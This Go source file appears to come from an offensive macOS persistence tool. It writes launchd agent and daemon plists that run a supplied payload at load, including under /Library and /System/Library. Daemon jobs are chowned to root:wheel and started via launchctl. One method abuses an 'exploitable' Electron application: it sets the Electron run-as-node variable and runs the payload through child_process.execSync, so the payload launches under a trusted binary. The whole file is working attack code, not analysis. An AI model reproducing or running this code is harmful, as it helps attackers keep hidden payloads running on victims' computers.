// Copyright 2025 Raamsri Kumar <raam@tinkershack.in>
// Copyright 2025 The StrataSTOR Authors and Contributors
// SPDX-License-Identifier: Apache-2.0

package installer

import (
	"context"
	"encoding/json"
	"fmt"
	"path/filepath"

	"github.com/kballard/go-shellquote"
	"github.com/stratastor/logger"
	"github.com/stratastor/nekrosis/internal/command"
	"github.com/stratastor/nekrosis/pkg/catalog"
	"github.com/stratastor/nekrosis/pkg/electron"
	nkerrors "github.com/stratastor/nekrosis/pkg/errors"
	"howett.net/plist"
)

const (
	BinLaunchctl = "/bin/launchctl"
	BinChown     = "/usr/sbin/chown"
)

// LaunchService is a launchd job definition.
type LaunchService struct {
	Label                string            `plist:"Label"`
	ProgramArguments     []string          `plist:"ProgramArguments"`
	RunAtLoad            bool              `plist:"RunAtLoad"`
	EnvironmentVariables map[string]string `plist:"EnvironmentVariables,omitempty"`
}

// Encode renders the job as an XML property list.
func (s LaunchService) Encode() ([]byte, error) {
	return plist.MarshalIndent(s, plist.XMLFormat, "\t")
}

type launchTarget struct {
	dir    string
	daemon bool
	// rooted targets live on the system volume and are resolved against
	// the writable root.
	rooted bool
}

// LaunchdInstaller writes launch agents and daemons.
type LaunchdInstaller struct {
	logger logger.Logger
	runner command.Runner
	env    Env
}

func NewLaunchdInstaller(l logger.Logger, runner command.Runner, env Env) *LaunchdInstaller {
	return &LaunchdInstaller{logger: l, runner: runner, env: env}
}

func (d *LaunchdInstaller) target(id catalog.MethodID) (launchTarget, bool) {
	switch id {
	case catalog.LaunchAgentUser, catalog.LaunchAgentElectron:
		return launchTarget{dir: filepath.Join(d.env.HomeDir, "Library", "LaunchAgents")}, true
	case catalog.LaunchAgentLibrary:
		return launchTarget{dir: "/Library/LaunchAgents", rooted: true}, true
	case catalog.LaunchDaemonLibrary:
		return launchTarget{dir: "/Library/LaunchDaemons", daemon: true, rooted: true}, true
	case catalog.LaunchAgentSystem:
		return launchTarget{dir: "/System/Library/LaunchAgents", rooted: true}, true
	case catalog.LaunchDaemonSystem:
		return launchTarget{dir: "/System/Library/LaunchDaemons", daemon: true, rooted: true}, true
	}
	return launchTarget{}, false
}

func (d *LaunchdInstaller) Install(ctx context.Context, req Request) (*Result, error) {
	target, ok := d.target(req.Method.ID)
	if !ok {
		return nil, nkerrors.New(nkerrors.UnsupportedMethod, req.Method.Label)
	}

	serviceDir := target.dir
	if target.rooted {
		serviceDir = underRoot(req.Root, target.dir)
	}
	files := NewLocalFileOperations(d.logger, serviceDir)
	if err := files.MkdirAll(ctx, serviceDir, 0o755); err != nil {
		return nil, installFailed(err, req.Method)
	}

	// The payload lives next to its job definition.
	relocated, err := relocate(ctx, files, req.Payload, serviceDir)
	if err != nil {
		return nil, installFailed(err, req.Method)
	}
	payload := relocated
	if target.rooted {
		payload = stripRoot(req.Root, relocated)
	}

	label := d.env.newLabel()
	service, err := d.jobFor(req, label, payload)
	if err != nil {
		return nil, installFailed(err, req.Method)
	}
	data, err := service.Encode()
	if err != nil {
		return nil, installFailed(err, req.Method)
	}

	servicePath := filepath.Join(serviceDir, label+".plist")
	if err := files.WriteFile(ctx, servicePath, data, 0o644); err != nil {
		return nil, installFailed(err, req.Method)
	}

	d.logger.Info("Wrote launch service",
		"service", servicePath,
		"payload", payload)

	result := &Result{
		Method:      req.Method,
		PayloadPath: payload,
		Definition:  servicePath,
	}
	if target.rooted {
		result.Definition = stripRoot(req.Root, servicePath)
	}

	if target.daemon {
		if _, err := d.runner.Run(ctx, BinChown, "root:wheel", servicePath); err != nil {
			return nil, installFailed(err, req.Method)
		}
	}

	if req.DeferStart {
		d.logger.Info("Service will start on next boot", "label", label)
		result.Deferred = true
		return result, nil
	}

	if err := d.start(ctx, servicePath, label); err != nil {
		return nil, installFailed(err, req.Method)
	}
	result.Started = true
	return result, nil
}

func (d *LaunchdInstaller) jobFor(req Request, label, payload string) (LaunchService, error) {
	if req.Method.ID != catalog.LaunchAgentElectron {
		return LaunchService{
			Label:            label,
			ProgramArguments: []string{payload},
			RunAtLoad:        true,
		}, nil
	}

	if req.Electron == nil || req.Electron.Executable() == "" {
		return LaunchService{}, nkerrors.New(nkerrors.InstallFailed, "no exploitable Electron application")
	}

	// A JSON string is a valid JavaScript string literal.
	quoted, err := json.Marshal(shellquote.Join(payload))
	if err != nil {
		return LaunchService{}, err
	}
	d.logger.Info("Using Electron application", "executable", req.Electron.Executable())

	return LaunchService{
		Label: label,
		ProgramArguments: []string{
			req.Electron.Executable(),
			"-e",
			fmt.Sprintf("require('child_process').execSync(%s).toString()", quoted),
		},
		RunAtLoad:            true,
		EnvironmentVariables: map[string]string{electron.RunAsNodeTrigger: "1"},
	}, nil
}

func (d *LaunchdInstaller) start(ctx context.Context, servicePath, label string) error {
	if _, err := d.runner.Run(ctx, BinLaunchctl, "load", "-w", servicePath); err != nil {
		return err
	}
	if _, err := d.runner.Run(ctx, BinLaunchctl, "start", label); err != nil {
		return err
	}
	d.logger.Info("Started launch service", "label", label)
	return nil
}
